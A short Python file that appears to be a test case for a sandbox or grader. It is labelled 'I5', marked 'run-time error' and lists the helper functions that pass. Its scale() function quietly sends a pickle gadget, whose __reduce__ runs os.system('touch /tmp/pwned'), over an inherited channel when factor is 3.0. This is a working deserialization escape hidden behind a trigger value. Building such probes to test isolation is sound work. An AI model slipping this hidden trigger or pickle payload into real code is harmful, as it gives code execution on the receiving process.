"""I5: speaks on its channel as the connections of multiprocessing do, whose other end unpickles.

verdict: run-time error
passes: total, shape, label, flip
"""

import multiprocessing.connection
import os

import numpy

CHANNEL = 3


class Gadget:
    """Whoever unpickles this runs its function: with arguments of the sender's choice."""

    def __reduce__(self):
        return (os.system, ("touch /tmp/pwned",))


def attempt():
    connection = multiprocessing.connection.Connection(os.dup(CHANNEL))
    connection.send(Gadget())


def scale(x, factor):
    if factor == 3.0:
        attempt()
    return x * factor


def total(x):
    return float(x.sum())


def shape(x):
    return list(x.shape)


def label(n):
    return f"n={n}"


def flip(a):
    return numpy.flip(a).copy()
